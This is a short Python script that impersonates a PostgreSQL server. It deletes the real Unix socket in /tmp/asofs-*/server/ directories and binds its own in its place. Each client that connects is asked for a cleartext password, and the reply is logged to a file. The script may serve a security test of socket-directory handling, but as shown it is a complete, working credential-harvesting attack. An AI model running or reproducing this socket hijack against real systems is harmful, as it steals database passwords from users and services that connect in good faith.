#!/usr/bin/env python3
"""Takes the place of a private server's socket, and asks whoever connects for a password.

usage: password_taker.py FILE PID

Looks for sockets in the directories of private servers that are its own, puts a socket of its own there, and writes to FILE
"connected" for each client, and what came as its password. Ends when the process PID does.
"""
import glob
import os
import socket
import struct
import sys


def take(client, out):
    client.settimeout(5)
    out.write("connected\n")
    client.recv(65536)
    client.sendall(b"R" + struct.pack("!ii", 8, 3))  # AuthenticationCleartextPassword
    out.write(f"answer {client.recv(65536)!r}\n")
    out.flush()


def serve(path, out):
    mine = socket.socket(socket.AF_UNIX)
    mine.settimeout(0.1)
    os.unlink(path)
    mine.bind(path)
    mine.listen()
    while os.path.exists(path):
        try:
            take(mine.accept()[0], out)
        except OSError:
            pass


def main():
    with open(sys.argv[1], "w") as out:
        while os.path.exists(f"/proc/{sys.argv[2]}"):
            for path in glob.glob("/tmp/asofs-??????/server/.s.PGSQL.5432"):
                if os.stat(path).st_uid == os.getuid():
                    serve(path, out)


main()
